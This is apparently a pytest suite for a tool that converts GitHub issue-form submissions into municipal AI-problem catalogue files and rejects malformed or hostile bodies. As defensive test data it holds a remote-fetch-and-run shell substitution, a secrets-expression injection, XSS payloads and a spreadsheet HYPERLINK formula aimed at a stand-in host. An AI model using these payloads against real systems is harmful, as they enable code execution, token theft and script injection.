"""`catalogo desde-issue`: a real form body becomes a valid file; hostile ones become a clear
comment and no file."""

from __future__ import annotations

import html
import json
import re
import unicodedata
from datetime import date
from pathlib import Path
from typing import ClassVar

import pytest
import yaml
from markdown_it import MarkdownIt

from catalogo.authoring.from_issue import (
    NO_RESPONSE,
    comment,
    convert,
    expected_headings,
    front_matter,
)
from catalogo.authoring.issue_forms import problem_fields
from catalogo.loading.vocabularies import load_vocabularies
from conftest import FIXTURES, REPO, run_cli

BODY = (FIXTURES / "issues" / "propuesta.md").read_text(encoding="utf-8")


@pytest.fixture
def root(catalogue_copy) -> Path:
    return catalogue_copy


def _convert(root: Path, body: str, tmp_path: Path):
    issue = tmp_path / "issue.md"
    issue.write_text(body, encoding="utf-8")
    comment = tmp_path / "comentario.md"
    result = run_cli(
        "desde-issue", str(issue), "--raiz", str(root), "--fecha", "2026-11-25",
        "--comentario", str(comment),
    )  # fmt: skip
    return result, comment.read_text(encoding="utf-8") if comment.exists() else ""


def _problem_files(root: Path) -> set[Path]:
    return set((root / "problems").rglob("*.md"))


def test_a_form_body_becomes_a_file_the_whole_catalogue_accepts(root, tmp_path):
    result, comment = _convert(root, BODY, tmp_path)
    assert result.returncode == 0, result.stderr
    path = result.stdout.strip()
    assert path == "problems/nunoa/derivacion-de-denuncias-por-perros-abandonados-en-la-via.md"
    text = (root / path).read_text(encoding="utf-8")
    assert "id: 13120-001\n" in text and "comuna: nunoa\n" in text and "estado: propuesto\n" in text
    assert "- medio-ambiente-y-residuos\n- atencion-ciudadana\n" in text
    assert "personas: 208237\n" in text and "## Situación actual\n" in text
    # The comment shows the reviewer exactly the front matter that was written.
    header = text.split("\n---\n", 1)[0] + "\n---"
    assert f"```yaml\n{header}\n```" in comment and path in comment
    assert run_cli("validar", "--raiz", str(root)).returncode == 0

    # The same issue again: the next free id and a new name, never the first file rewritten.
    again, _ = _convert(root, BODY, tmp_path)
    assert again.returncode == 0
    assert again.stdout.strip().endswith("-via-2.md")
    assert "id: 13120-002\n" in (root / again.stdout.strip()).read_text(encoding="utf-8")
    assert (root / path).read_text(encoding="utf-8") == text


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda b: b.replace("en la vía pública", "$(curl https://example.com | sh)"),
            "«$(»",
        ),
        (
            lambda b: b.replace(
                "Dirección de Medio Ambiente\n\n### Población",
                "${{ secrets.GITHUB_TOKEN }}\n\n### Población",
            ),
            "«${{»",
        ),
        (
            lambda b: b.replace(
                "listas incompletas y repetidas.", "listas. <script>alert(1)</script>"
            ),
            "HTML",
        ),
        (
            lambda b: b.replace("Nadie las reúne,", "La vecina con RUT 12.345.678-5 reclamó,"),
            "RUT",
        ),
        (lambda b: b + "\n" + "relleno " * 40_000, "supera los"),
        (lambda b: "Hola, tengo un problema con la basura.", "no sigue el formulario"),
        (lambda b: b.replace("\nÑuñoa\n", "\nGotham\n"), "comuna"),
        # What the reviewer sees must be what is written: GitHub hides HTML comments.
        (
            lambda b: b.replace(
                "\n### Temas", "\n<!--\n### Comuna\n\nRenca\n-->\n\n### Temas", 1
            ),
            "comentario HTML",
        ),
        (lambda b: b + "\n### Comuna\n\nRenca\n", "aparece 2 veces"),
        (
            lambda b: b.replace(
                "Se pierden las que llegan por redes sociales.",
                "Se pierden.\n\n### Comuna\n\nRenca",
            ),
            "aparece 2 veces",
        ),
        (
            lambda b: b.replace("Se pierden las que", "Se pierden\n\n### Notas\n\nlas que"),
            "«### Notas» que no es del formulario",
        ),
        (lambda b: b.replace("### Prioridad\n\nMedia\n\n", ""), "falta la pregunta «### Prioridad»"),
        (
            lambda b: b.replace("### Resumen", "### TMP").replace("### Temas", "### Resumen").replace(
                "### TMP", "### Temas"
            ),
            "no están en el orden",
        ),
        (
            lambda b: b.replace(
                "Se pierden las que", "Se pierden [aquí][x] las que"
            ).replace("### Antes de enviar", "[x]: https://malo.example\n\n### Antes de enviar"),
            "definición de enlace",
        ),
        (lambda b: b.replace("208.237", "208²"), "Personas"),
        (lambda b: b.replace("208.237", "9" * 5000), "Personas"),
        (lambda b: b.replace("208.237", "٢٠٨٢٣٧"), "Personas"),
    ],
    ids=[
        "shell", "expresion-github", "html", "rut", "enorme", "sin-formulario", "comuna",
        "comentario-oculto", "encabezado-repetido-al-final", "encabezado-en-respuesta",
        "encabezado-ajeno", "encabezado-que-falta", "orden", "enlace-oculto", "superindice",
        "cifras-de-mas", "digitos-arabes",
    ],
)  # fmt: skip
def test_hostile_bodies_get_a_clear_comment_and_no_file(root, tmp_path, change, expected):
    before = _problem_files(root)
    result, comment = _convert(root, change(BODY), tmp_path)
    assert result.returncode == 1, result.stdout
    shown = _shown(comment)
    assert expected in shown, shown
    assert _problem_files(root) == before
    assert "Traceback" not in result.stderr and "<script" not in _rendered(comment)


def _rendered(comment: str) -> str:
    """The comment as GitHub's Markdown makes it HTML (tables on, raw HTML passed through)."""
    return MarkdownIt("commonmark").enable(["table"]).render(comment)


def _shown(comment: str) -> str:
    """What a reader of the comment sees: its rendered text."""
    return html.unescape(re.sub(r"<[^>]*>", "", _rendered(comment)))


def test_values_quoted_in_a_comment_cannot_link_or_mention(root, tmp_path):
    hostile = "@municipios/todos [gana](https://malo.example) ![x](https://malo.example/x.png)"
    body = BODY.replace(
        "Dirección de Medio Ambiente\n\n### Población", f"{hostile}\n\n### Población"
    )
    result, comment = _convert(root, body, tmp_path)
    assert result.returncode == 0
    # In the front matter shown as a code block: GitHub links and mentions nothing in code.
    rendered = _rendered(comment)
    assert "<a " not in rendered and "<img" not in rendered
    assert hostile in _shown(comment) and "<pre><code" in rendered
    # The same values in the table of errors are made literal text.
    failing = body.replace("\nÑuñoa\n", f"\n{hostile}\n")
    result, comment = _convert(root, failing, tmp_path)
    assert result.returncode == 1
    rendered = _rendered(comment)
    assert "<a " not in rendered and "<img" not in rendered and "@municipios" not in rendered


def test_the_comment_is_written_whenever_no_file_is(root, tmp_path):
    """The workflow posts the comment file: if it were missing, the author would hear nothing."""
    comment = tmp_path / "comentario.md"
    folder = tmp_path / "una-carpeta"
    folder.mkdir()
    result = run_cli("desde-issue", str(folder), "--raiz", str(root), "--comentario", str(comment))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert comment.read_text(encoding="utf-8").startswith("No pude convertir este issue")


def test_windows_line_endings_read_the_same(root, tmp_path):
    result, comment = _convert(root, BODY.replace("\n", "\r\n"), tmp_path)
    assert result.returncode == 0, comment


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda b: (
                b.replace("Se pierden las que", "Se pierden[^1] las que") + "\n[^1]: Oculto\n"
            ),
            "nota al pie",
        ),
        (lambda b: b.replace("### Comuna", "   ### Comuna"), None),
        (lambda b: b.replace("### Comuna", "###\tComuna"), None),
    ],
    ids=["nota-al-pie", "encabezado-con-sangria", "encabezado-con-tabulador"],
)
def test_headings_and_footnotes_as_github_reads_them(root, tmp_path, change, expected):
    result, comment = _convert(root, change(BODY), tmp_path)
    if expected is None:
        assert result.returncode == 0, comment
    else:
        assert result.returncode == 1 and expected in _shown(comment)


# Issue 12 · From an issue to a pull request ----


def _data_lines(body: str, lines: str) -> str:
    start = body.index("### Datos\n\n") + len("### Datos\n\n")
    return body[:start] + lines + body[body.index("\n\n### ", start) :]


@pytest.mark.parametrize(
    ("lines", "wrong", "example"),
    [
        (
            "Tenemos una planilla Excel con las denuncias del año pasado",
            "no separa sus partes con «|»",
            "«Tenemos una planilla Excel con las denuncias del año pasado | xlsx | acceso | sí o no»",
        ),
        (
            "- Registro de la OIRS | Base de datos",
            "no dice el acceso",
            "«Registro de la OIRS | base-de-datos | acceso | sí o no»",
        ),
        (
            "Fichas de atención en papel, de acceso interno",
            "no separa sus partes con «|»",
            "«Fichas de atención en papel, de acceso interno | papel | interno | sí o no»",
        ),
        (
            "Registro | | Público | no | 300 | https://datos.example.cl | otra",
            "tiene 7 partes y una fuente tiene a lo más 6",
            "«Registro | formato | publico | no | 300 | https://datos.example.cl»",
        ),
    ],
    ids=["frase", "sin-acceso", "frase-con-formato-y-acceso", "partes-de-mas"],
)
def test_a_data_line_without_its_parts_is_explained_with_the_authors_words(
    root, tmp_path, lines, wrong, example
):
    result, comment = _convert(root, _data_lines(BODY, lines), tmp_path)
    assert result.returncode == 1
    shown = _shown(comment).replace("\u2060", "")  # the joiner that keeps an address unlinked
    assert f"La línea 1 de «Datos», «{lines.removeprefix('- ')}», {wrong}." in shown
    assert f"Por ejemplo: {example}." in shown
    assert "«»" not in shown  # never an empty value the author did not write


def test_many_or_long_data_lines_keep_the_comment_short(root, tmp_path):
    # GitHub refuses a comment over 65,536 characters: a pasted document must not make one.
    sentence = "Tenemos una planilla Excel con las denuncias " * 100
    lines = "\n".join([sentence, *(f"Fuente número {n} sin separar" for n in range(14))])
    result, comment = _convert(root, _data_lines(BODY, lines), tmp_path)
    shown = _shown(comment).replace("\u2060", "")
    assert result.returncode == 1
    assert f"La línea 1 de «Datos», «{sentence[:80]}…», no separa sus partes con «|»." in shown
    assert "La línea 10 de «Datos»" in shown and "La línea 11 de «Datos»" not in shown
    assert "Hay 5 líneas más de «Datos» sin sus partes separadas por «|»." in shown
    assert len(comment) < 10_000


def test_the_authors_words_are_quoted_as_written(root, tmp_path):
    body = BODY.replace("208.237", "  unas 200 mil  ").replace("\nÑuñoa\n", "\nGótham City\n")
    result, comment = _convert(root, body, tmp_path)
    assert result.returncode == 1
    shown = _shown(comment)
    assert "«unas 200 mil»" in shown and "«Gótham City»" in shown
    assert "unas200mil" not in shown and "GóthamCity" not in shown


@pytest.mark.parametrize(
    ("change", "data", "where"),
    [
        (
            ("Nadie las reúne,", "La vecina con RUT 12.345.678-5 reclamó,"),
            "12.345.678-5",
            "Resumen",
        ),
        (
            ("Se pierden las que", "Llame a la vecina al +56 9 8765 4321. Se pierden las que"),
            "8765 4321",
            "Situación actual",
        ),
        (
            ("en la vía pública", "que avisó maria.perez@gmail.com"),
            "maria.perez@gmail.com",
            "Título",
        ),
        (
            ("Vecinas y vecinos que denuncian y", "Vecinas como ana.soto@gmail.com y"),
            "ana.soto@gmail.com",
            "Población afectada: quiénes",
        ),
    ],
    ids=["rut", "telefono", "correo", "correo-en-un-campo-anidado"],
)
def test_personal_data_in_the_issue_is_said_to_be_public_already_never_echoed(
    root, tmp_path, change, data, where
):
    result, comment = _convert(root, BODY.replace(*change), tmp_path)
    assert result.returncode == 1
    shown = _shown(comment)
    assert f"La respuesta «{where}» contiene" in shown
    assert "ya es público" in shown and "historial de ediciones" in shown
    assert "Solo los responsables del catálogo pueden borrar un issue" in shown
    assert "sin repetir el dato" in shown
    for text in (comment, result.stderr, result.stdout):
        assert data not in text and data[:3] not in text


def test_every_confirmation_must_be_ticked(root, tmp_path):
    body = BODY.replace("- [X] Tengo la autorización", "- [ ] Tengo la autorización")
    result, comment = _convert(root, body, tmp_path)
    assert result.returncode == 1
    assert "falta marcar «Tengo la autorización de mi municipio" in _shown(comment)


# The generated form, filled as people fill it and written as GitHub writes the issue.

FORM = REPO / ".github" / "ISSUE_TEMPLATE" / "proponer-problema.yml"


def _form() -> list[dict]:
    """The questions of the generated form (every element but its Markdown text)."""
    form = yaml.safe_load(FORM.read_text(encoding="utf-8"))
    return [element for element in form["body"] if element["type"] != "markdown"]


def _github_body(answers: dict[str, str | list[bool]]) -> str:
    """The issue body GitHub writes from a submitted form: each question as `### label`, a
    blank line, the answer (`_No response_` for an empty one); checkboxes as `- [X] option`."""
    parts = []
    for element in _form():
        attributes = element["attributes"]
        value = answers.get(element["id"], "")
        if element["type"] == "checkboxes":
            ticks = value or [False] * len(attributes["options"])
            value = "\n".join(
                f"- [{'X' if tick else ' '}] {option['label']}"
                for tick, option in zip(ticks, attributes["options"], strict=True)
            )
        parts.append(f"### {attributes['label']}\n\n{value if value.strip() else NO_RESPONSE}")
    return "\n\n".join(parts) + "\n"


def _options(field_id: str) -> list[str]:
    return next(e for e in _form() if e["id"] == field_id)["attributes"]["options"]


# Every kind of answer a person gives: extra spaces, bullets of several kinds, blank lines
# between items, a list of two dropdown choices.
MESSY = {
    "titulo": "  Derivación   de denuncias por perros abandonados  ",
    "comuna": "Ñuñoa",
    "temas": "Medio ambiente y residuos, Atención ciudadana",
    "resumen": "Las denuncias llegan por teléfono,  redes sociales\ny la OIRS.   Nadie las reúne.",
    "area_responsable": "  Dirección de   Medio Ambiente ",
    "poblacion_afectada-descripcion": "Vecinas y vecinos que denuncian",
    "poblacion_afectada-personas": " 208.237 ",
    "tareas_ia": "Clasificación de texto, Extracción de información",
    "datos": "- Registro de denuncias de la OIRS | Base de datos | Interno | sí | Unas 4.000 al año"
    "\n\n\n• Catastro de operativos  |  Planilla Excel | Público | no |  | "
    "https://datos.example.cl/catastro",
    "triaje-datos_personales": "Sí",
    "proteccion_datos-datos_sensibles": [],
    "proteccion_datos-base_legal": "Ejercicio de funciones públicas",
    "proteccion_datos-evaluacion_impacto": "Sí",
    "proteccion_datos-evaluacion_impacto_url": " https://nunoa.example.cl/eipd.pdf ",
    "evaluacion_riesgo-decisiones_sobre_personas": "Apoya decisiones",
    "evaluacion_riesgo-supervision_humana": "La jefa del\nequipo veterinario revisa cada visita.",
    "evaluacion_riesgo-nivel": "Limitado",
    "evaluacion_riesgo-motivo": "  Ordena las visitas, y una persona decide cada una. ",
    # A line as before (plain text) and one with its parts, written as people write numbers
    # and dates in Chile.
    "indicadores": "1. Denuncias reunidas en un solo registro\n\n"
    "2) Días entre denuncia y visita | días | 20,5 | 31/03/2025 | 7",
    "riesgos": "* Las denuncias traen nombres de vecinos: se anonimizan antes de usarlas.\n\n",
    "contacto-unidad": "Dirección de Medio Ambiente",
    "contacto-correo": "  medioambiente@nunoa.municipalidad.example ",
    "prioridad": "Media",
    "cuerpo-0": "Las denuncias llegan por varios canales y cada una se anota en otro lugar.",
    "cuerpo-1": "Una funcionaria copia a mano las denuncias a una planilla cada viernes.",
    "cuerpo-2": "Un modelo de lenguaje podría leer cada denuncia y extraer la dirección.",
    "confirmaciones": [True, True],
}
MESSY_EXPECTED = {
    "titulo": "Derivación de denuncias por perros abandonados",
    "comuna": "nunoa",
    "temas": ["medio-ambiente-y-residuos", "atencion-ciudadana"],
    "estado": "propuesto",
    "resumen": "Las denuncias llegan por teléfono, redes sociales y la OIRS. Nadie las reúne.",
    "area_responsable": "Dirección de Medio Ambiente",
    "poblacion_afectada": {"descripcion": "Vecinas y vecinos que denuncian", "personas": 208237},
    "tareas_ia": ["clasificacion-de-texto", "extraccion-de-informacion"],
    "datos": [
        {
            "nombre": "Registro de denuncias de la OIRS",
            "formato": "base-de-datos",
            "acceso": "interno",
            "datos_personales": True,
            "volumen": "Unas 4.000 al año",
        },
        {
            "nombre": "Catastro de operativos",
            "formato": "xlsx",
            "acceso": "publico",
            "datos_personales": False,
            "url": "https://datos.example.cl/catastro",
        },
    ],
    "proteccion_datos": {
        "datos_sensibles": [],
        "base_legal": "funcion-publica",
        "evaluacion_impacto": True,
        "evaluacion_impacto_url": "https://nunoa.example.cl/eipd.pdf",
    },
    "indicadores": [
        "Denuncias reunidas en un solo registro",
        {
            "nombre": "Días entre denuncia y visita",
            "unidad": "días",
            "linea_base": 20.5,
            "fecha_linea_base": "2025-03-31",
            "meta": 7,
        },
    ],
    "riesgos": ["Las denuncias traen nombres de vecinos: se anonimizan antes de usarlas."],
    "evaluacion_riesgo": {
        "nivel": "limitado",
        "motivo": "Ordena las visitas, y una persona decide cada una.",
        "decisiones_sobre_personas": "apoya",
        "supervision_humana": "La jefa del equipo veterinario revisa cada visita.",
    },
    "contacto": {
        "unidad": "Dirección de Medio Ambiente",
        "correo": "medioambiente@nunoa.municipalidad.example",
    },
    "fecha_registro": "2026-11-25",
    "prioridad": "media",
}
OPTIONAL_EMPTY = {
    "poblacion_afectada-personas",
    "datos",
    "riesgos",
    "prioridad",
    "proteccion_datos-base_legal",
    "proteccion_datos-evaluacion_impacto",
    "proteccion_datos-evaluacion_impacto_url",
    "evaluacion_riesgo-supervision_humana",
    "evaluacion_riesgo-motivo",
}


def _front_matter(text: str) -> dict:
    return yaml.load(text.split("---\n")[1], Loader=yaml.BaseLoader)


def _as_yaml_text(value):
    """A value as YAML 1.2's core schema without types reads it (for comparing to BaseLoader)."""
    if isinstance(value, dict):
        return {key: _as_yaml_text(child) for key, child in value.items()}
    if isinstance(value, list):
        return [_as_yaml_text(child) for child in value]
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


@pytest.mark.parametrize(
    "variant",
    ["tal-cual", "fin-de-linea-crlf", "tildes-combinadas-nfd", "opcionales-vacios", "todo-junto"],
)
def test_the_generated_form_filled_as_people_fill_it_becomes_the_expected_file(
    root, tmp_path, vocabularies, variant
):
    answers, expected = dict(MESSY), dict(MESSY_EXPECTED)
    if variant in {"opcionales-vacios", "todo-junto"}:
        for field_id in OPTIONAL_EMPTY:
            answers[field_id] = ""
        expected["poblacion_afectada"] = {"descripcion": "Vecinas y vecinos que denuncian"}
        expected["datos"], expected["riesgos"] = [], []
        expected.pop("prioridad")
        # The required triage questions answered «No sé» or «No interviene»: what the reviewers
        # complete stays out of the file.
        answers["triaje-datos_personales"] = "No sé"
        answers["evaluacion_riesgo-nivel"] = "No sé"
        answers["evaluacion_riesgo-decisiones_sobre_personas"] = "No interviene"
        expected.pop("proteccion_datos"), expected.pop("evaluacion_riesgo")
    body = _github_body(answers)
    if variant in {"tildes-combinadas-nfd", "todo-junto"}:
        body = unicodedata.normalize("NFD", body)
        assert "Ñuñoa" not in body  # the test really types combining marks
    if variant in {"fin-de-linea-crlf", "todo-junto"}:
        body = body.replace("\n", "\r\n")
    result, comment = _convert(root, body, tmp_path)
    assert result.returncode == 0, _shown(comment)
    path = result.stdout.strip()
    text = (root / path).read_text(encoding="utf-8")
    assert unicodedata.is_normalized("NFC", text) and "\r" not in text
    data = _front_matter(text)
    assert data.pop("id").startswith(vocabularies.comunas["nunoa"].cut + "-")
    assert data == _as_yaml_text(expected)
    for field_id in ("cuerpo-0", "cuerpo-1", "cuerpo-2"):
        label = next(e for e in _form() if e["id"] == field_id)["attributes"]["label"]
        assert f"## {label}\n\n{answers[field_id]}\n" in text
    checked = run_cli("validar", "--raiz", str(root), path, "--formato", "json")
    assert checked.returncode == 0 and json.loads(checked.stdout)["errores"] == 0, checked.stdout


def test_the_form_and_desde_issue_ask_the_same_questions():
    """A question added to, renamed in or removed from either side fails here."""
    form = _form()
    assert [e["attributes"]["label"] for e in form] == expected_headings()
    assert [e["id"] for e in form if e["id"] != "confirmaciones"] == [
        f.id.replace(".", "-") for f in problem_fields()
    ]

    class Reading(dict):
        """The answers, noting each one desde-issue reads."""

        read: ClassVar[set[str]] = set()

        def get(self, key, default=None):
            self.read.add(key)
            return super().get(key, default)

        def __getitem__(self, key):
            self.read.add(key)
            return super().__getitem__(key)

    values = Reading({f.id: "" for f in problem_fields()})
    front_matter(values, load_vocabularies(), date(2026, 11, 25))
    asked = {e["id"].replace("-", ".") for e in form if e["id"] != "confirmaciones"}
    assert Reading.read == asked


def test_every_answer_of_the_form_changes_what_desde_issue_makes(root, vocabularies):
    """Each question answered otherwise (another valid answer, or a box left unticked) gives
    another file or a comment: no answer is read and then dropped."""
    other = {
        "titulo": "Denuncias de perros sueltos en plazas",
        "comuna": "Maipú",
        "temas": "Salud",
        "resumen": "Otro resumen del problema.",
        "area_responsable": "Dirección de Salud",
        "poblacion_afectada-descripcion": "Quienes pasean por las plazas",
        "poblacion_afectada-personas": "1200",
        "tareas_ia": "Resumen",
        "datos": "Otro registro | CSV | Público | no",
        "triaje-datos_personales": "No",
        "proteccion_datos-datos_sensibles": [True] + [False] * 8,
        "proteccion_datos-base_legal": "Consentimiento",
        "proteccion_datos-evaluacion_impacto": "No",
        "proteccion_datos-evaluacion_impacto_url": "https://nunoa.example.cl/otra.pdf",
        "evaluacion_riesgo-decisiones_sobre_personas": "Decide",
        "evaluacion_riesgo-supervision_humana": "Otra persona revisa cada caso.",
        "evaluacion_riesgo-nivel": "Alto",
        "evaluacion_riesgo-motivo": "Otro motivo para el nivel.",
        "indicadores": "Otro indicador | casos",
        "riesgos": "Otro riesgo",
        "contacto-unidad": "Dirección de Salud",
        "contacto-correo": "salud@nunoa.municipalidad.example",
        "prioridad": "Alta",
        "cuerpo-0": "Otra descripción.",
        "cuerpo-1": "Otra situación.",
        "cuerpo-2": "Otra ayuda.",
        "confirmaciones": [True, False],
    }
    assert set(other) == {e["id"] for e in _form()}
    base = convert(_github_body(MESSY), root, vocabularies, date(2026, 11, 25))
    assert not base.errors
    for field_id, answer in other.items():
        changed = convert(
            _github_body({**MESSY, field_id: answer}), root, vocabularies, date(2026, 11, 25)
        )
        assert (changed.path, changed.text, changed.errors) != (base.path, base.text, []), field_id


# The triage questions: what they declare, the labels they give, and answers that contradict.


def _triage(**answers) -> str:
    """MESSY with some triage answers changed, as GitHub writes the issue."""
    return _github_body({**MESSY, **answers})


SENSITIVE_BOXES = [False, True, True] + [False] * 6  # Niñas, niños y adolescentes; socioeconómica


def test_sensitive_data_high_risk_and_decisions_give_their_labels(root, tmp_path, vocabularies):
    body = _triage(
        **{
            "proteccion_datos-datos_sensibles": SENSITIVE_BOXES,
            "evaluacion_riesgo-nivel": "Alto",
            "evaluacion_riesgo-motivo": "Ordena a qué familias visitar primero.",
            "evaluacion_riesgo-decisiones_sobre_personas": "Apoya decisiones",
        }
    )
    labels_file = tmp_path / "etiquetas.tsv"
    issue = tmp_path / "issue.md"
    issue.write_text(body, encoding="utf-8")
    comment = tmp_path / "comentario.md"
    result = run_cli(
        "desde-issue", str(issue), "--raiz", str(root), "--fecha", "2026-11-25",
        "--comentario", str(comment), "--etiquetas", str(labels_file),
    )  # fmt: skip
    assert result.returncode == 0, comment.read_text(encoding="utf-8")
    data = _front_matter((root / result.stdout.strip()).read_text(encoding="utf-8"))
    assert data["proteccion_datos"]["datos_sensibles"] == [
        "ninos-ninas-adolescentes",
        "situacion-socioeconomica",
    ]
    assert data["evaluacion_riesgo"]["nivel"] == "alto"
    rows = [line.split("\t") for line in labels_file.read_text(encoding="utf-8").splitlines()]
    assert [row[0] for row in rows] == [
        "revision:datos-personales",
        "revision:datos-sensibles",
        "revision:riesgo-alto",
        "revision:decisiones-sobre-personas",
    ]
    assert all(len(row) == 3 and len(row[2]) == 6 for row in rows)
    shown = _shown(comment.read_text(encoding="utf-8"))
    assert "lo revisa también el equipo de protección de datos" in shown


def test_no_se_leaves_the_answer_to_the_reviewers_but_keeps_the_labels(root, vocabularies):
    body = _triage(
        **{
            "proteccion_datos-datos_sensibles": SENSITIVE_BOXES,
            "proteccion_datos-base_legal": "No sé",
            "evaluacion_riesgo-nivel": "No sé",
            "evaluacion_riesgo-motivo": "",
            "evaluacion_riesgo-decisiones_sobre_personas": "Decide",
        }
    )
    conversion = convert(body, root, vocabularies, date(2026, 11, 25))
    assert not conversion.errors, conversion.errors
    data = _front_matter(conversion.text)
    # The model requires every part of both objects: they wait for the reviewers.
    assert "proteccion_datos" not in data and "evaluacion_riesgo" not in data
    assert [label.name for label in conversion.labels] == [
        "revision:datos-personales",
        "revision:datos-sensibles",
        "revision:decisiones-sobre-personas",
    ]
    text = comment(conversion)
    assert "Queda por completar la protección de datos (falta la base legal)" in text
    assert "el nivel de riesgo: lo propone el equipo que revisa" in text


@pytest.mark.parametrize(
    ("answers", "expected"),
    [
        (
            {"triaje-datos_personales": "No"},
            "Respondió «No» a «¿Alguna fuente de datos tiene datos personales?», pero la fuente "
            "«Registro de denuncias de la OIRS» de «Datos» dice «sí»",
        ),
        (
            {"datos": "Catastro | Planilla Excel | Público | no"},
            "Respondió «Sí» a «¿Alguna fuente de datos tiene datos personales?», pero ninguna "
            "fuente de «Datos» dice «sí»",
        ),
        (
            {
                "triaje-datos_personales": "No",
                "datos": "Catastro | Planilla Excel | Público | no",
                "proteccion_datos-datos_sensibles": SENSITIVE_BOXES,
            },
            "Marcó datos sensibles en «Si hay datos personales: ¿cuáles son datos sensibles?», "
            "pero ninguna fuente de «Datos» tiene datos personales.",
        ),
        (
            {"proteccion_datos-evaluacion_impacto_url": ""},
            "pero falta «Si existe: dirección de la evaluación de impacto».",
        ),
        (
            {"evaluacion_riesgo-supervision_humana": ""},
            "El sistema apoyaría o tomaría decisiones sobre personas, pero falta «Si apoya o "
            "toma decisiones: ¿qué supervisión humana habría?».",
        ),
        (
            {"evaluacion_riesgo-motivo": ""},
            "Eligió el nivel de riesgo «Limitado», pero falta «¿Por qué ese nivel de riesgo?».",
        ),
        (
            {"indicadores": "Días | días | 20 | 31-03-2025 | 7 | otra"},
            "«Días | días | 20 | 31-03-2025 | 7 | otra», tiene 6 partes y un indicador tiene a "
            "lo más 5",
        ),
        ({"indicadores": "Días | | 20"}, "«Días | | 20», no dice la unidad."),
        ({"indicadores": "Días | días | unos veinte"}, "debe ser un número"),
        ({"indicadores": "Días | días | 20"}, "fecha_linea_base"),
    ],
    ids=[
        "no-con-fuente-personal", "si-sin-fuente-personal", "sensibles-sin-datos-personales",
        "evaluacion-sin-enlace", "decisiones-sin-supervision", "nivel-sin-motivo",
        "indicador-partes-de-mas", "indicador-sin-unidad", "linea-base-en-palabras",
        "linea-base-sin-fecha",
    ],
)  # fmt: skip
def test_triage_answers_that_contradict_are_explained_in_the_forms_words(
    root, vocabularies, answers, expected
):
    conversion = convert(_triage(**answers), root, vocabularies, date(2026, 11, 25))
    shown = _shown(comment(conversion))
    assert expected in shown, shown
    # Said once, in the form's words: not again in the validator's.
    assert shown.count("supervisión humana") <= 2 and "`evaluacion_impacto_url`" not in shown


@pytest.mark.parametrize(
    ("field_id", "answer"),
    [
        ("evaluacion_riesgo-motivo", "<img src=x onerror=alert(1)> [clic](https://malo.example)"),
        ("evaluacion_riesgo-supervision_humana", '=HYPERLINK("https://malo.example","ver")'),
        ("indicadores", "=1+1 | días | 20 | 31-03-2025 | 7"),
        ("indicadores", "Días | @municipios-vanguardia/nucleo | 20 | 31-03-2025 | 7"),
        ("evaluacion_riesgo-supervision_humana", "revisa " * 15_000),
        ("indicadores", "a | b | " + "9" * 100_000),
        ("indicadores", ("x" * 50 + " | ") * 2_000),
        ("proteccion_datos-evaluacion_impacto_url", "javascript:alert(1)"),
        ("evaluacion_riesgo-nivel", "Inaceptable"),
        ("evaluacion_riesgo-decisiones_sobre_personas", "Quizás"),
    ],
)
def test_hostile_triage_answers_never_become_markup_or_a_traceback(
    root, tmp_path, field_id, answer
):
    body = _triage(**{field_id: answer}).replace("\n", "\r\n")
    before = _problem_files(root)
    result, comment_text = _convert(root, body, tmp_path)
    assert "Traceback" not in result.stderr and comment_text
    rendered = _rendered(comment_text)
    assert "<img" not in rendered and 'href="https://malo' not in rendered
    assert "=HYPERLINK" not in comment_text or "`" in comment_text or "\\=" in comment_text
    if result.returncode == 0:
        # Accepted only as text the validator checked, never as markup.
        text = (root / result.stdout.strip()).read_text(encoding="utf-8")
        assert "<img" not in text
    else:
        assert _problem_files(root) == before
    assert len(comment_text) < 65_536


def test_the_guides_indicator_example_is_read_as_the_guide_says():
    from catalogo.authoring.from_issue import _indicator

    guide = (REPO / "docs" / "guias" / "proponer-un-problema.md").read_text(encoding="utf-8")
    example = guide.split("```text\n", 1)[1].split("\n```", 1)[0]
    assert _indicator(example) == {
        "nombre": "Denuncias sin respuesta",
        "unidad": "% de denuncias",
        "linea_base": 40,
        "fecha_linea_base": "2025-03-31",
        "meta": 10,
    }
    # The numbers and dates as the guide says people write them.
    assert _indicator("a | b | 1.200 | 2025-03-31 | 33,5")["linea_base"] == 1200
    assert _indicator("a | b | 1.200 | 2025-03-31 | 33,5")["meta"] == 33.5
    assert _indicator("a | b | 85 % | 31/3/2025")["fecha_linea_base"] == "2025-03-31"
    assert _indicator("Una línea sin partes") == "Una línea sin partes"
